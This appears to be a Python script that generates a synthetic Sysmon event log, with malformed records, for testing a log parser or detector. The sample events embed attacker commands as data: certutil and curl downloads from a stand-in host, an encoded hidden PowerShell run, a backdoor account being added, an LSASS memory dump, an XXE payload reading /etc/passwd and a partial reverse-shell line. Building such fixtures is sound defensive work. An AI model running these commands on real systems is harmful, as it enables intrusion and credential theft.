import json
def xml(eid, data, computer="WEB01.corp.example", provider='Microsoft-Windows-Sysmon', guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}', systime="2023-11-14T22:13:20.1234567Z"):
    d = "".join(f"<Data Name='{k}'>{v}</Data>" if k=='RuleName' else (f'<Data Name="{k}">{v}</Data>' if v is not None else f'<Data Name="{k}" />') for k,v in data)
    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}' Guid='{guid}'/>"
            f"<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
            f"<TimeCreated SystemTime='{systime}'/><EventRecordID>4242</EventRecordID><Correlation/><Execution ProcessID='3140' ThreadID='4056'/>"
            f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{computer}</Computer><Security UserID='S-1-5-18'/></System>"
            f"<EventData>{d}</EventData></Event>")
win = [("RuleName","-"),("UtcTime","2023-11-14 22:13:20.123"),("ProcessGuid","{b5c3f1a2-1234-6553-0a00-000000000a00}"),("ProcessId","6620"),
       ("Image","C:\\Windows\\System32\\cmd.exe"),("FileVersion","10.0.17763.1 (WinBuild.160101.0800)"),("Description","Windows Command Processor"),
       ("Product","Microsoft&#174; Windows&#174; Operating System"),("Company","Microsoft Corporation"),("OriginalFileName","Cmd.Exe"),
       ("CommandLine","cmd.exe /c &quot;whoami &amp; net user &amp; echo &lt;ok&gt;&quot;"),("CurrentDirectory","C:\\inetpub\\wwwroot\\"),
       ("User","IIS APPPOOL\\DefaultAppPool"),("LogonGuid","{b5c3f1a2-0000-6553-e403-000000000000}"),("LogonId","0x3e4"),("TerminalSessionId","0"),
       ("IntegrityLevel","High"),("Hashes","SHA256=BADD6A2E7E5D1E1B4A7D1B9C1A1C2B3D4E5F60718293A4B5C6D7E8F9012345"),
       ("ParentProcessGuid","{b5c3f1a2-0f00-6553-0900-000000000a00}"),("ParentProcessId","4400"),("ParentImage","C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
       ("ParentCommandLine","c:\\windows\\system32\\inetsrv\\w3wp.exe -ap &quot;DefaultAppPool&quot; -v &quot;v4.0&quot;"),("ParentUser","IIS APPPOOL\\DefaultAppPool")]
lin = [("RuleName","-"),("UtcTime","2023-11-14 22:14:01.500"),("ProcessGuid","{3f0d2c11-7a55-6553-7c2e-4b0c6d550000}"),("ProcessId","31337"),
       ("Image","/usr/bin/curl"),("FileVersion","-"),("Description","-"),("Product","-"),("Company","-"),("OriginalFileName","-"),
       ("CommandLine","curl -s -o /tmp/x http://203.0.113.7/x?a=1&amp;b=2"),("CurrentDirectory","/var/www/html"),("User","www-data"),
       ("LogonGuid","{3f0d2c11-0000-0000-2100-000000000000}"),("LogonId","33"),("TerminalSessionId","4294967295"),("IntegrityLevel","no level"),
       ("Hashes","-"),("ParentProcessGuid","{3f0d2c11-7a50-6553-18e3-0b6a9d550000}"),("ParentProcessId","31300"),("ParentImage","/usr/sbin/php-fpm8.1"),
       ("ParentCommandLine","php-fpm: pool www"),("ParentUser","www-data")]
L = []
L.append(xml(1, win))
L.append("Nov 14 22:14:01 web2 sysmon: " + xml(1, lin, computer="web2", provider="Linux-Sysmon", systime="2023-11-14T22:14:01.500000000Z"))
L.append(xml(3, [("RuleName","-"),("UtcTime","2023-11-14 22:13:21.000"),("Image","C:\\x.exe")]))
L.append(xml(1, [("UtcTime","2023-11-14 22:13:21.000")], provider="Microsoft-Windows-Kernel-General"))
L.append(json.dumps({"EventID":1,"Computer":"WEB01","EventData":{"UtcTime":"2023-11-14 22:15:00.000","ProcessId":"7001","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -nop -w hidden -enc SQBFAFgA","User":"IIS APPPOOL\\site","ParentProcessId":"4400","ParentImage":"C:\\Windows\\System32\\inetsrv\\w3wp.exe","Hashes":"MD5=00"}}))
L.append(json.dumps({"@timestamp":"2023-11-14T22:15:01.000Z","host":{"name":"web01"},"winlog":{"event_id":"1","provider_name":"Microsoft-Windows-Sysmon","computer_name":"WEB01.corp.example","event_data":{"UtcTime":"2023-11-14 22:15:01.250","ProcessId":"7002","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe","ParentProcessId":"7001","ParentImage":"C:\\Windows\\System32\\cmd.exe","CurrentDirectory":"C:\\Windows\\Temp\\"}}}))
L.append(json.dumps({"@timestamp":"2023-11-14T22:15:02.000Z","winlog.event_id":1,"winlog.computer_name":"WEB01","winlog.event_data.ProcessId":"7003","winlog.event_data.Image":"C:\\Windows\\System32\\net.exe","winlog.event_data.CommandLine":"net user hacker P@ss /add"}))
L.append(json.dumps({"Id":1,"ProviderName":"Microsoft-Windows-Sysmon","MachineName":"WEB01","TimeCreated":"/Date(1700000103000)/","Message":"Process Create:\r\nRuleName: -\r\nUtcTime: 2023-11-14 22:15:03.000\r\nProcessGuid: {b5c3f1a2-1234-6553-0a00-000000000b00}\r\nProcessId: 7004\r\nImage: C:\\Windows\\System32\\whoami.exe\r\nCommandLine: whoami /priv\r\nCurrentDirectory: C:\\inetpub\\wwwroot\\\r\nUser: IIS APPPOOL\\site\r\nParentProcessId: 7001\r\nParentImage: C:\\Windows\\System32\\cmd.exe\r\nParentCommandLine: cmd.exe /c whoami /priv"}))
L.append(json.dumps({"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Sysmon"},"EventID":{"@Qualifiers":"","#text":"1"},"Computer":"WEB03","TimeCreated":{"@SystemTime":"2023-11-14T22:15:04.000Z"}},"EventData":{"Data":[{"@Name":"ProcessId","#text":"7005"},{"@Name":"Image","#text":"C:\\Windows\\System32\\rundll32.exe"},{"@Name":"CommandLine","#text":"rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full"},{"@Name":"ParentImage"}]}}}))
L.append(json.dumps({"EventID":11,"Computer":"WEB01","EventData":{"TargetFilename":"C:\\x"}}))
L.append("Nov 14 22:16:00 web2 kernel: [12345.678] eth0: link up")
L.append('{"EventID":1,"Computer":"WEB01","EventData":{"Image":"C:\\\\x.exe"')
L.append("<Event><System><Computer>X</Computer></System><EventData><Data Name=\"Image\">a</Data></EventData></Event>")
bad = xml(1, [("UtcTime","2023-11-14 22:16:01.000"),("ProcessId","7006"),("Image","C:\\Temp\\caf\udcc3.exe"),("CommandLine","caf\udcff\udcfe -x")], computer="WEB01")
L.append(bad)
L.append('<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + xml(1, [("UtcTime","2023-11-14 22:16:02.000"),("ProcessId","7007"),("Image","/bin/sh"),("CommandLine","sh -c &xxe; &#x41;&#233;&#65; &amp;amp; &#xD800; &#99999999; &bogus"),("User",None)], computer="web2", provider="Linux-Sysmon"))
cut = xml(1, [("UtcTime","2023-11-14 22:16:03.000"),("ProcessId","7008"),("Image","/usr/bin/python3"),("CommandLine","python3 -c 'import socket,subprocess,os;s=socket.socket()'")], computer="web2", provider="Linux-Sysmon")
L.append(cut[:cut.index("socket.socket")])
L.append("")
L.append("[1,2]")
open("events.log","wb").write(("\n".join(L)+"\n").encode("utf-8","surrogateescape"))
